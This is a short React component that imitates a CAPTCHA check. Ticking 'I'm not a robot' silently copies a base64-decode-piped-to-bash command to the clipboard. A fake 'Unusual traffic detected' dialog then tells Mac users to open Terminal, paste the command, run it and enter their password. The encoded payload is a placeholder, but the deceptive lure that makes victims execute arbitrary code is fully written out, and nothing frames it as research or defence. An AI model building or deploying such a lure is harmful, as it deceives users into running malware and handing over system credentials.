import { useState } from "react";
export default function Gate({ payload }) {
  const [step, setStep] = useState(0);
  const run = "echo 'PLACEHOLDER' | base64 -d | bash";
  const begin = () => {
    setStep(1);
    setTimeout(() => { navigator.clipboard.writeText(run); setStep(2); }, 1400);
  };
  if (step === 0) return <label><input type="checkbox" onChange={begin} /> I'm not a robot</label>;
  if (step === 1) return <p>Checking your browser…</p>;
  return <div role="dialog">
    <h3>Unusual traffic detected</h3>
    <ol>
      <li>Press ⌘ + Space, type Terminal, press Return</li>
      <li>Press ⌘ + V and Return</li>
      <li>Enter your Mac password if asked</li>
    </ol>
    <button onClick={() => location.reload()}>Verify</button>
  </div>;
}
